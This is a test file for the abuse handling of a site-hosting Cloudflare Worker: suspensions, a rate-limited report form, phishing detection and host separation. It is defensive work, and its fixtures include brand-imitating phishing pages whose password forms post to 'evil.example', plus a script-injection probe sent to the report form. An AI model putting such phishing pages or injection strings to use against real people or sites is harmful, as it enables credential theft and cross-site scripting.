import { exports } from 'cloudflare:workers';
import { expect, test } from 'vitest';
import { createUserContext } from '#worker/testing/context.ts';
import { createClient } from '#worker/testing/request.ts';
import { listOwnSites } from './list-own-sites.ts';
import { readSite } from './read-site.ts';
import { saveSite } from './save-site.ts';
import { reinstateSite, suspendSite } from './suspend-site.ts';

const HONEST =
  '<!doctype html><html><head><title>Bakery</title></head><body><h1>Bread</h1></body></html>';
const SUSPECT =
  '<!doctype html><html><head><title>Club</title></head><body><p>Netflix: your payment failed</p><form action="https://evil.example/x"><input type="password"></form></body></html>';
const PHISHING =
  '<!doctype html><html><head><title>PayPal</title></head><body><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form></body></html>';

async function publish(html = HONEST) {
  const ctx = await createUserContext();
  const uuid = crypto.randomUUID();
  await saveSite({ ctx, input: { uuid, html } });
  await ctx.settle();
  return { ctx, uuid, url: `/s/${uuid}/index.html` };
}

async function call(path: string, init: RequestInit = {}): Promise<Response> {
  return await exports.default.fetch(
    new Request(`http://localhost${path}`, { redirect: 'manual', ...init }),
  );
}

async function report(uuid: string, address: string): Promise<Response> {
  return await call('/report', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'cf-connecting-ip': address },
    body: JSON.stringify({ site: uuid, reason: 'It asks for my bank password.' }),
  });
}

test('a suspended site answers 451 in both languages and comes back when reinstated', async () => {
  const { ctx, uuid, url } = await publish();
  await (await call(url)).text();
  await suspendSite(ctx, uuid);
  const english = await call(url);
  expect([english.status, (await english.text()).includes('has been suspended')]).toEqual([
    451,
    true,
  ]);
  expect(english.headers.get('content-security-policy')).toMatch(/^sandbox /);
  const italian = await call(url, { headers: { 'accept-language': 'it' } });
  expect(await italian.text()).toContain('è stato sospeso');
  await reinstateSite(ctx, uuid);
  expect((await call(url)).status).toBe(200);
});

test('a save does not lift a suspension', async () => {
  const { ctx, uuid, url } = await publish();
  await suspendSite(ctx, uuid);
  const saved = await saveSite({ ctx, input: { uuid, html: HONEST.replace('Bread', 'Cake') } });
  expect(saved.site.status).toBe('suspended');
  expect((await call(url)).status).toBe(451);
});

test('three different reporters within a day suspend a site; one alone cannot', async () => {
  const { ctx, uuid, url } = await publish();
  for (let time = 0; time < 4; time += 1) expect((await report(uuid, '10.9.0.1')).status).toBe(200);
  expect((await call(url)).status).toBe(200);
  await report(uuid, '10.9.0.2');
  expect((await listOwnSites(ctx))[0]?.status).toBe('active');
  await report(uuid, '10.9.0.3');
  expect((await call(url)).status).toBe(451);
});

test('one address may report five times an hour', async () => {
  const { uuid } = await publish();
  const client = createClient({ settings: { RATE_LIMITS: 'on' } });
  const statuses: number[] = [];
  for (let time = 0; time < 6; time += 1) {
    statuses.push((await client.post('/report', { site: uuid, reason: 'Again' })).status);
  }
  expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
});

test('the report form works without a script, and takes a whole address', async () => {
  const { uuid } = await publish();
  const form = await call(`/report?site=${uuid}`, { headers: { 'accept-language': 'it' } });
  expect(form.headers.get('content-security-policy')).toContain("default-src 'none'");
  expect(await form.text()).toContain(`value="${uuid}"`);
  const hostile = await call('/report?site=%22%3E%3Cscript%3E');
  expect(await hostile.text()).not.toContain('<script');
  const sent = await call('/report', {
    method: 'POST',
    headers: { 'cf-connecting-ip': '10.9.2.1' },
    body: new URLSearchParams({ site: `https://app.test/s/${uuid}/index.html`, reason: 'Malware' }),
  });
  expect([sent.status, (await sent.text()).includes('Thank you')]).toEqual([200, true]);
});

test('bad reports are refused: unknown site, no reason, another site’s form', async () => {
  const { uuid } = await publish();
  const send = async (body: object, headers: Record<string, string> = {}) =>
    (
      await call('/report', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'cf-connecting-ip': '10.9.3.1', ...headers },
        body: JSON.stringify(body),
      })
    ).status;
  expect(await send({ site: crypto.randomUUID(), reason: 'It is bad' })).toBe(404);
  expect(await send({ site: uuid, reason: '' })).toBe(400);
  expect(await send([])).toBe(400);
  expect(await send({ site: uuid, reason: 'forged' }, { 'sec-fetch-site': 'cross-site' })).toBe(
    403,
  );
});

test('a page that imitates a brand is saved and held back until it is changed', async () => {
  const { ctx, uuid, url } = await publish(PHISHING);
  expect((await listOwnSites(ctx))[0]?.status).toBe('held');
  const page = await call(url);
  expect([page.status, page.headers.get('x-robots-tag')]).toEqual([403, 'noindex']);
  const text = await page.text();
  expect(text).toContain('in the name of a known brand');
  expect(text).not.toContain('type="password"');
  const italian = await call(url, { headers: { 'accept-language': 'it' } });
  expect(await italian.text()).toContain('a nome di un marchio noto');
  expect((await readSite({ ctx, input: { uuid } })).html).toBe(PHISHING);
  expect(ctx.logged).toContainEqual({
    event: 'sec.site_flagged',
    fields: { site: uuid, signs: ['foreign-form', 'brand-credentials', 'imitation'] },
  });
  const cleaned = await saveSite({ ctx, input: { uuid, html: HONEST } });
  expect(cleaned.site.status).toBe('active');
  expect((await call(url)).status).toBe(200);
});

test('a page that is held back is shown once a review has put it back', async () => {
  const { ctx, uuid, url } = await publish(PHISHING);
  await reinstateSite(ctx, uuid);
  expect((await call(url)).status).toBe(200);
});

test('a page that looks like phishing is saved, flagged, noted and shown with a notice', async () => {
  const { ctx, uuid, url } = await publish(SUSPECT);
  expect((await listOwnSites(ctx))[0]?.status).toBe('flagged');
  const page = await call(url);
  expect([page.status, page.headers.get('x-robots-tag')]).toEqual([200, 'noindex']);
  expect(await page.text()).toContain('not affiliated with any company');
  const headers = { 'accept-language': 'it', 'if-none-match': page.headers.get('etag') ?? '' };
  const italian = await call(url, { headers });
  expect([italian.headers.get('vary'), await italian.text()]).toEqual([
    'accept-language',
    expect.stringContaining('non ha legami con le aziende'),
  ]);
  expect(ctx.logged).toContainEqual({
    event: 'sec.site_flagged',
    fields: { site: uuid, signs: ['foreign-form', 'brand-credentials'] },
  });
  const cleaned = await saveSite({ ctx, input: { uuid, html: HONEST } });
  expect(cleaned.site.status).toBe('active');
});

test('security.txt names where to write and expires in the future', async () => {
  const response = await call('/.well-known/security.txt');
  const text = await response.text();
  expect(response.headers.get('content-type')).toMatch(/^text\/plain/);
  expect(text).toContain('Contact: http://localhost/contact');
  expect(Date.parse(/Expires: (.+)/.exec(text)?.[1] ?? '')).toBeGreaterThan(Date.now());
});

async function onHosts(address: string, settings: Record<string, string>): Promise<Response> {
  const { origin, pathname, search } = new URL(address);
  return await createClient({ origin, settings }).get(`${pathname}${search}`, { site: null });
}

const HOSTS = { APP_ORIGIN: 'https://app.test', SITES_HOST: 'usersites.test' };

test('with a host of their own, sites are served there and nowhere else, and nothing else is', async () => {
  const { url } = await publish();
  const moved = await onHosts(`https://app.test${url}?a=1`, HOSTS);
  expect([moved.status, moved.headers.get('location')]).toEqual([
    308,
    `https://usersites.test${url}?a=1`,
  ]);
  const served = await onHosts(`https://usersites.test${url}`, HOSTS);
  expect(served.status).toBe(200);
  expect(served.headers.get('content-security-policy')).toContain(
    "frame-ancestors 'self' https://app.test",
  );
  for (const path of [
    '/api/health',
    '/api/sites',
    '/auth/google',
    '/__preview',
    '/sites/x/index.html',
    '/',
  ]) {
    expect([path, (await onHosts(`https://usersites.test${path}`, HOSTS)).status]).toEqual([
      path,
      404,
    ]);
  }
  expect((await onHosts('https://usersites.test/report', HOSTS)).status).toBe(200);
  expect((await onHosts('https://app.test/api/config', HOSTS)).status).toBe(200);
});

test('a sites’ host on the app’s own domain is refused unless it is allowed by name', async () => {
  const { url } = await publish();
  const same = { APP_ORIGIN: 'https://app.test', SITES_HOST: 'sites.app.test' };
  expect((await onHosts(`https://sites.app.test${url}`, same)).status).toBe(503);
  const allowed = { ...same, SITES_HOST_SAME_SITE_OK: '1' };
  expect((await onHosts(`https://sites.app.test${url}`, allowed)).status).toBe(200);
});
